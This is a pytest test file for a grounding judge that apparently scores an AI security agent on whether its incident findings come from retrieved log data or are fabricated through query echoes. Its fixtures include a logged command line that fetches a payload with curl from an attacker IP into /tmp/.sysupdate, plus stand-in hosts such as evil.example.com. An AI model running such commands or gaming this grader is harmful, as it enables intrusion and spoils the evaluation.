"""Grounding: what the agent retrieved, in every result shape, and what it could not have made up."""

from __future__ import annotations

import pytest
from judge_case import ATTACKER, Calls, hit, q_auth, q_file, q_overview, q_process, q_zeek

from pytest_soclab.judge.grounding import (
    Retrieved,
    contains,
    docs_of_call,
    flatten,
    source_matches,
    term_pattern,
)


def test_term_boundaries() -> None:
    assert contains("src 10.0.0.5:443", "10.0.0.5")
    assert not contains("src 10.0.0.50", "10.0.0.5")
    assert not contains("src 110.0.0.5", "10.0.0.5")
    assert contains("host web-01.corp.local", "web-01")
    assert not contains("host web-012", "web-01")
    assert contains("ran /tmp/.sysupdate --beacon", "/tmp/.sysupdate")
    assert contains("Accepted  password\nfor deploy", "accepted password for deploy")
    assert not contains("anything", "  ")
    with pytest.raises(ValueError):
        term_pattern(" ")


def test_flatten_nested_and_lists() -> None:
    assert flatten({"host": {"name": "a", "ip": ["1.1.1.1", "2.2.2.2"]}, "n": 3}) == {
        "host.name": ["a"], "host.ip": ["1.1.1.1", "2.2.2.2"], "n": ["3"]}


def test_esql_rows_and_columnar_are_the_same_documents() -> None:
    c = Calls()
    q_auth(c)  # recorded in columnar form
    rows = c.calls[0].result["values"]
    assert len(rows) == 5  # five columns of two values
    docs = docs_of_call(c.calls[0])
    assert len(docs) == 2
    assert docs[1].values("host.name") == ["app-02"]
    assert "accepted password for deploy from 10.10.1.15" in docs[1].text


def test_search_hits_and_aggregations() -> None:
    c = Calls()
    q_process(c)
    q_overview(c)
    r = Retrieved(c.calls)
    assert r.grounded("/tmp/.sysupdate")
    assert r.grounded(f"http://{ATTACKER}/x")
    # aggregation bucket keys count as retrieved
    agg_call = c.calls[-1]
    assert agg_call.result["hits"]["hits"] == []
    assert r.grounded_in("db-01")
    assert {"web-01", "db-01", "dc-01"} <= r.hosts()
    assert r.host_ips(["web-01"]) == {"10.10.1.15"}


def test_errors_denials_and_metadata_ground_nothing() -> None:
    c = Calls()
    c.error("esql_query", {"query": f'ROW x = "{ATTACKER}"'}, "verification_exception", "boom")
    c.list_indices()
    c.calls.append(c.action("block_ip", ip=ATTACKER))  # an action result echoes its argument
    c.action("isolate_host", denied=True, host="web-01")
    r = Retrieved(c.calls)
    assert r.empty
    assert not r.grounded(ATTACKER)
    assert not r.grounded("logs-zeek.conn")  # index names in list_indices are not evidence


def test_row_and_eval_cannot_fabricate_a_finding() -> None:
    c = Calls()
    c.esql(f'ROW ip = "{ATTACKER}", host = "web-01"', [("ip", "keyword"), ("host", "keyword")], [[ATTACKER, "web-01"]])
    c.esql('FROM logs-* | EVAL path = CONCAT("/tmp/", ".sysupdate") | KEEP path | LIMIT 1',
           [("path", "keyword")], [["/tmp/.sysupdate"]])
    r = Retrieved(c.calls)
    assert not r.grounded(ATTACKER)
    assert not r.grounded("/tmp/.sysupdate")  # literals glued back together before the echo check
    # ...but a value the trigger gave may be looked up by name, even in a computing query
    assert Retrieved(c.calls, known="Alert on web-01").grounded("web-01")


def test_filter_literal_is_grounded_by_the_data() -> None:
    # Searching for a value by name is fine when the query only filters stored data.
    c = Calls()
    c.esql(f'FROM logs-zeek.conn-default | WHERE source.ip == "{ATTACKER}" | KEEP source.ip, destination.ip',
           [("source.ip", "ip"), ("destination.ip", "ip")], [[ATTACKER, "10.10.1.15"]])
    assert Retrieved(c.calls).grounded(ATTACKER)


def test_eval_echo_counts_once_retrieved_before() -> None:
    c = Calls()
    q_zeek(c)  # returns the attacker IP from data
    c.esql(f'FROM logs-* | EVAL a = "{ATTACKER}" | KEEP a | LIMIT 1', [("a", "keyword")], [[ATTACKER]])
    r = Retrieved(c.calls)
    assert r.grounded_in(ATTACKER) == [1, 2]


def test_script_fields_and_execute_follow_the_echo_rule() -> None:
    c = Calls()
    c.search("logs-*", {"script_fields": {"x": {"script": {"source": "'evil.example.com'"}}}},
             [{"_index": "logs-x", "_id": "1", "_source": {"host": {"name": "web-01"}},
               "fields": {"x": ["evil.example.com"]}}])
    c._add("execute", {"host": "web-01", "command": "echo evil2.example.com"}, {"stdout": "evil2.example.com\n"})
    r = Retrieved(c.calls)
    assert not r.grounded("evil.example.com")
    assert not r.grounded("evil2.example.com")
    assert r.grounded("web-01")


def test_key_evidence_needs_its_source() -> None:
    c = Calls()
    q_file(c)  # rows carry _index
    q_process(c)  # hits carry _index
    q_zeek(c)  # no _index: provenance from the FROM pattern
    r = Retrieved(c.calls)
    assert r.evidence("logs-endpoint.events.file", "/etc/cron.d/sysupdate")
    assert not r.evidence("logs-endpoint.events.process", "/etc/cron.d/sysupdate")
    assert r.evidence("logs-endpoint.events.process", "/tmp/.sysupdate")
    assert r.evidence("logs-zeek.conn", ATTACKER)
    assert not r.evidence("logs-system.auth", ATTACKER)


def test_source_matching_by_dataset_and_pattern() -> None:
    c = Calls()
    c.esql("FROM logs-* | KEEP data_stream.dataset, message", [("data_stream.dataset", "keyword"), ("message", "text")],
           [["zeek.conn", "x"]])
    c.esql("FROM logs-system.auth-* | KEEP message", [("message", "text")], [["y"]])
    d1 = docs_of_call(c.calls[0])[0]
    d2 = docs_of_call(c.calls[1])[0]
    assert source_matches("logs-zeek.conn", d1)
    assert not source_matches("logs-endpoint.events.process", d1)
    assert source_matches("logs-system.auth", d2)
    assert source_matches("system.auth", d2)
    assert not source_matches("logs-zeek.conn", d2)


def test_contains_quote_ignores_json_punctuation() -> None:
    c = Calls()
    q_process(c)
    r = Retrieved(c.calls)
    assert r.contains_quote('"process.executable": "/tmp/.sysupdate"')
    assert r.contains_quote("process.command_line: curl -s http://185.220.101.34/x -o /tmp/.sysupdate")
    assert not r.contains_quote("/tmp/.sysupdate beaconing to evil.example.com")
    assert not r.contains_quote("ab")


def test_underscore_separates_tokens() -> None:
    """Package files and versions are joined by `_` ("openssh-server_8.9p1-3ubuntu0.10_amd64.deb"): a
    human counts that as naming the package and its version. `=` and `:` already separate."""
    deb = "/var/cache/apt/archives/openssh-server_8.9p1-3ubuntu0.10_amd64.deb"
    assert contains(deb, "openssh-server")
    assert contains(deb, "8.9p1-3ubuntu0.10")
    assert contains("COMMAND=/usr/bin/less /var/log/x", "/usr/bin/less")
    assert contains("user:carol pid=48213", "carol") and contains("pid=48213", "48213")
    assert contains("backup_web-01_2025.tar", "web-01")
    # ... but letters and digits still continue a token
    assert not contains("openssh-serverx", "openssh-server")
    assert not contains("deployer ran", "deploy") and not contains("redeploy", "deploy")
    assert not contains("/tmp/.sysupdated", "/tmp/.sysupdate")
    assert not contains("web-012", "web-01") and not contains("pid 482131", "48213")
    assert not contains("8.9p1-3ubuntu0.100", "8.9p1-3ubuntu0.10")


def test_prefix_terms() -> None:
    """`exfiltrat*` is the explicit prefix form: the word and its continuations; a bare stem stays whole."""
    assert contains("Data exfiltration to 1.2.3.4", "exfiltrat*")
    assert contains("the archive was exfiltrated", "exfiltrat*")
    assert contains("EXFILTRATE", "exfiltrat*")
    assert not contains("preexfiltration", "exfiltrat*")
    assert not contains("Data exfiltration", "exfiltrat")  # no star: a whole token, as before
    assert contains("credentials were dumped", "credential*")
    assert not contains("a / b", "/*")  # a lone glob character is literal
    r = Retrieved([])
    assert not r.grounded("exfiltrat*")


def test_field_names_ground_nothing() -> None:
    """Only values are retrieved content: a field name ("user_agent.original") is the store's schema."""
    c = Calls()
    c.search("logs-zeek.http-*", {"query": {"match_all": {}}},
             [hit(".ds-logs-zeek.http-default-2024.05.14-000001", "h1",
                  {"user_agent": {"original": "curl/8.5"}, "url": {"path": "/x"}, "customer_id": None})])
    r = Retrieved(c.calls)
    assert r.grounded("curl/8.5") and r.grounded("/x")
    assert not r.grounded("agent") and not r.grounded("original") and not r.grounded("url")


def test_time_of_day_inside_an_iso_timestamp() -> None:
    assert contains("@timestamp 2025-03-11T02:30:00.000Z", "02:30")
    assert not contains("2025-03-11T12:30:00.000Z", "2:30")
    assert not contains("build AT02:30", "02:30") and not contains("T1021.004", "1021.004")
